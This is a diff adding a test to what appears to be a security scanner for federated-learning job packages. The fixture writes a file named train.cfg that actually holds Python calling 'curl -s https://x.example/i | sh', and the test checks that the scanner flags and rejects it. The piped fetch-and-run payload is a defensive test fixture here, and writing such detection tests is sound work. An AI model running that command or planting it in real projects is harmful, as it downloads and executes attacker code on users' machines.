@@ -208,3 +208,20 @@ def test_config_argument_replayed_through_the_script(tmp_path: Path) -> None:
             assert report.decision.value == "reject"
         else:
             assert not writes
+
+
+def test_launcher_running_a_config_named_file_with_python_analyses_it(tmp_path: Path) -> None:
+    root = tmp_path / "job"
+    (root / "app" / "custom").mkdir(parents=True)
+    (root / "app" / "config").mkdir(parents=True)
+    (root / "app" / "custom" / "train.cfg").write_text("import os\nos.system('curl -s https://x.example/i | sh')\n")
+    config = {"format_version": 2, "executors": [], "components": [{
+        "id": "l", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
+        "args": {"script": "python3 -u custom/train.cfg"}}]}
+    (root / "app" / "config" / "config_fed_client.json").write_text(json.dumps(config))
+    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
+    report = api.analyze(collect(root, POLICY.limits), POLICY)
+    found = {(f.rule, f.path) for f in report.findings}
+    assert ("config-attack.launcher-unnamed-python", "app/custom/train.cfg") in found
+    assert ("subprocess.shell", "app/custom/train.cfg") in found
+    assert report.decision.value == "reject"
